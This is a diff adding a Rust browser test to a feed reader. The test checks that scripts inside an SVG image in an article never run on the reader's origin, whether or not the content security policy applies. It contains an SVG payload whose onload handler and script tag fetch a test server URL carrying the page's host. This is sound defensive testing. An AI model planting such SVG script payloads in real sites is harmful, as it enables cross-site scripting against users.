@@ -13,6 +13,7 @@ use gleaner::content::clean::{Rendering, clean, nothing_kept};
 use gleaner::domain::WebUrl;
 use serde_json::{Value, json};
 
+use crate::support::outside::{Outside, Reply};
 use crate::support::{Browser, NAME, Reader, Screen, Scripts};
 
 /// Tells when something runs that must not: the function that payloads of our own call, and what payloads of others do.
@@ -179,6 +180,66 @@ async fn nothing_in_an_article_that_is_given_away_runs() {
     }
 
     assert!(tripped.is_empty(), "{}", tripped.join("\n"));
+}
+
+/// A drawing with a script in an article: shown, and then opened by its own address in every way that a page has. Its script
+/// would tell another server where it ran.
+async fn no_drawing_runs(bypass_policy: bool) {
+    let outside = Outside::start().await;
+    let ran = outside.url("/ran");
+    let drawing = format!(
+        "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='60' onload=\"fetch('{ran}?' + location.host)\">\
+         <rect width='90' height='60' fill='red'/><script>fetch('{ran}?' + location.host)</script></svg>"
+    );
+    outside.route("/drawing.svg", Reply::ok("image/svg+xml", drawing));
+    let item = format!("<p>Words.</p><p><img src=\"{}\" alt=\"\"></p>", outside.url("/drawing.svg"));
+    let feed = format!(
+        "<rss version=\"2.0\"><channel><title>Drawings</title><item><title>A drawing</title><guid>1</guid>\
+         <description><![CDATA[{item}]]></description></item></channel></rss>"
+    );
+    outside.route("/feed.xml", Reply::ok("application/rss+xml", feed));
+    let reader = Reader::with_account();
+    reader.command(&["add", outside.url("/feed.xml").as_str()], None);
+    let browser = Browser::start(Screen::Desktop, Scripts::On).await;
+    browser.devtools("Page.enable", json!({})).await;
+    browser.devtools("Page.setBypassCSP", json!({ "enabled": bypass_policy })).await;
+    browser.sign_in(&reader).await;
+    browser.open(&reader.url("/all")).await;
+    browser.go(".rows h3 a").await;
+    browser.run("document.querySelector('.art img').scrollIntoView()").await;
+    crate::support::becomes(&browser, "return document.querySelector('.art img').naturalWidth", json!(90)).await;
+
+    let address = browser.run("return document.querySelector('.art img').src").await;
+    let address = address.as_str().unwrap();
+    browser.run(&format!("window.open('{address}'); location.href = '{address}'")).await;
+    // Our own pages may not even make such elements; another site on the same host can.
+    let frames = format!(
+        "<!doctype html><title>Frames</title><iframe src=\"{address}\"></iframe><object data=\"{address}\"></object>\
+         <embed src=\"{address}\"><p>All of them"
+    );
+    outside.route("/frames", Reply::ok("text/html", frames));
+    browser.open(outside.url("/frames").as_str()).await;
+    browser.says("p", "All of them").await;
+    // The same drawing by its own server does run: once that was told, what was opened before has had its time.
+    let told =
+        |host: &str| outside.seen().iter().any(|seen| seen.target.starts_with("/ran?") && seen.target.contains(host));
+    let own = outside.address().to_string();
+    browser.open(outside.url("/drawing.svg").as_str()).await;
+    browser.until("the drawing runs at home", async || Ok(told(&own))).await;
+    let ours = reader.url("/");
+    let ours = ours.trim_start_matches("http://").trim_end_matches('/');
+    assert!(!told(ours), "a drawing ran on our origin");
+}
+
+/// I10: what a picture holds never runs on our origin, by the policy and without it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_drawing_runs_however_it_is_opened() {
+    no_drawing_runs(false).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_drawing_runs_however_it_is_opened_even_without_the_policy() {
+    no_drawing_runs(true).await;
 }
 
 /// What was saved, and the site of files, opened from the disk without any policy of a server.
